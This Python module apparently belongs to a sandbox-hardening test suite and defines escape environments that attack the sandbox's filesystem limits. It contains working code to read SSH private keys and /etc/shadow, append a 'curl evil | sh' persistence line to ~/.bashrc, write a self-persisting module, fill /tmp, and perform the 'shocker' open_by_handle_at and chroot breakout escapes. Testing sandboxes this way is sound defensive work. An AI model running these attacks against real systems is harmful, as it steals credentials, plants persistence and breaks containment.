"""Reading and writing the host's files from inside the sandbox.

The mount namespace builds a root that holds only the interpreter, the
gymwarden package and the environment's own folders, and Landlock limits
what of that may be opened for writing: a host path is simply not there
(FileNotFoundError) or refused (PermissionError, or OSError EROFS).
"""

from __future__ import annotations

import glob
import os

from escape_envs.base import (
    BAIT_DIR,
    BAIT_HOME,
    EscapeEnv,
    loot,
    read_all,
    say,
    syscall,
    try_each,
    won,
)

NR_OPEN_BY_HANDLE_AT = 304
MIB = 1 << 20


class ReadSshEnv(EscapeEnv):
    """Reads the trainer's ~/.ssh/id_rsa (HOME is /home/gwbait in the
    tests), after looking for keys under /root and every /home."""

    NAME = "read-ssh"

    def attempt(self):
        others = sorted(
            set(glob.glob("/home/*/.ssh/*") + glob.glob("/root/.ssh/*"))
        )
        say(self.NAME, f"keys visible: {others}")
        for path in others:
            try:
                loot(self.NAME, path, read_all(path))
            except OSError as e:
                say(self.NAME, f"{path}: {type(e).__name__}")
        loot(self.NAME, "id_rsa", read_all(f"{BAIT_HOME}/.ssh/id_rsa"))


class ReadShadowEnv(EscapeEnv):
    """Reads /etc/shadow (and /etc/gshadow)."""

    NAME = "read-shadow"

    def attempt(self):
        try_each(
            self.NAME,
            "read",
            lambda p: loot(self.NAME, p, read_all(p)),
            ["/etc/gshadow"],
        )
        loot(self.NAME, "/etc/shadow", read_all("/etc/shadow"))


class ReadHostTmpEnv(EscapeEnv):
    """Reads a secret the trainer keeps in the host's /tmp."""

    NAME = "read-host-tmp"

    def attempt(self):
        say(self.NAME, f"/tmp holds {sorted(os.listdir('/tmp'))[:20]}")
        loot(self.NAME, "host tmp", read_all("/tmp/gwbait-host-secret"))


class WriteOutsideEnv(EscapeEnv):
    """Drops a file into a host folder the trainer may write, overwrites
    a host file, and appends to the trainer's ~/.bashrc."""

    NAME = "write-outside"

    def attempt(self):
        def append(path):
            with open(path, "a") as f:
                f.write("curl evil | sh  # gwbait\n")

        def overwrite(path):
            with open(path, "w") as f:
                f.write("overwritten by the environment\n")

        errors = try_each(self.NAME, "append", append, [f"{BAIT_HOME}/.bashrc"])
        errors += try_each(
            self.NAME, "overwrite", overwrite, [f"{BAIT_DIR}/outside/keep.txt"]
        )
        overwrite(f"{BAIT_DIR}/outside/dropped.txt")
        won(self.NAME, f"wrote outside ({len(errors)} refusals)")


class WriteSourceEnv(EscapeEnv):
    """Persists itself: writes a module into its own source folder, to be
    imported by the next run (or by a reviewer's tools)."""

    NAME = "write-source"

    def attempt(self):
        here = os.path.dirname(os.path.abspath(__file__))
        target = os.path.join(here, "gwbait_persist.py")
        with open(target, "w") as f:
            f.write("print('persisted')\n")
        won(self.NAME, f"wrote {target}")


class FillTmpEnv(EscapeEnv):
    """Writes 1 MiB files into /tmp until something refuses, up to 64
    MiB (kept finite so that a run without a sandbox stays harmless)."""

    NAME = "fill-tmp"

    def attempt(self):
        chunk = b"\xa5" * MIB
        written = 0
        try:
            for i in range(64):
                with open(f"/tmp/gwbait-fill-{i}", "wb") as f:
                    f.write(chunk)
                written += 1
        finally:
            say(self.NAME, f"wrote {written} MiB into /tmp")
        won(self.NAME, f"wrote {written} MiB unhindered")


class FileSizeEnv(EscapeEnv):
    """Writes one 8 MiB file into /tmp, past the 1 MiB file_size limit
    (CPython ignores SIGXFSZ, so the write fails with EFBIG instead of
    the process dying)."""

    NAME = "file-size"

    def attempt(self):
        done = 0
        try:
            with open("/tmp/gwbait-big", "wb") as f:
                for _ in range(8):
                    f.write(b"\x5a" * MIB)
                    f.flush()
                    done += 1
        finally:
            say(self.NAME, f"wrote {done} MiB into one file")
        won(self.NAME, f"wrote a {done} MiB file")


class OpenByHandleEnv(EscapeEnv):
    """The "shocker" escape: open_by_handle_at with a forged ext4 handle
    for inode 2 (the root of the file system the interpreter lives on),
    then read the host's /srv/gwbait/secret.txt relative to it."""

    NAME = "open-by-handle"

    def attempt(self):
        import ctypes

        # struct file_handle: handle_bytes, handle_type, then the bytes;
        # type 1 is FILEID_INO32_GEN (inode 2, generation 0).
        class FileHandle(ctypes.Structure):
            _fields_ = [
                ("handle_bytes", ctypes.c_uint),
                ("handle_type", ctypes.c_int),
                ("f_handle", ctypes.c_uint * 2),
            ]

        handle = FileHandle(8, 1, (ctypes.c_uint * 2)(2, 0))
        mount_dir = os.path.dirname(os.__file__)
        mount_fd = os.open(mount_dir, os.O_RDONLY | os.O_DIRECTORY)
        fd = syscall(
            "open_by_handle_at",
            NR_OPEN_BY_HANDLE_AT,
            mount_fd,
            ctypes.cast(ctypes.byref(handle), ctypes.c_void_p).value,
            os.O_RDONLY | os.O_DIRECTORY,
        )
        say(self.NAME, f"root of the host file system: {os.listdir(fd)[:12]}")
        secret = os.open("srv/gwbait/secret.txt", os.O_RDONLY, dir_fd=fd)
        loot(self.NAME, "secret via handle", os.read(secret, 4096))


class ChrootEnv(EscapeEnv):
    """The classic chroot break-out: chroot into a subfolder, climb out
    with chdir(".."), chroot(".") and read a host file."""

    NAME = "chroot"

    def attempt(self):
        os.makedirs("/tmp/gwbait-jail", exist_ok=True)
        # A folder outside the new root, to climb out of it from.
        keep = os.open("/tmp", os.O_RDONLY | os.O_DIRECTORY)
        os.chroot("/tmp/gwbait-jail")
        os.fchdir(keep)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        loot(self.NAME, "secret after chroot", read_all(f"{BAIT_DIR}/secret.txt"))

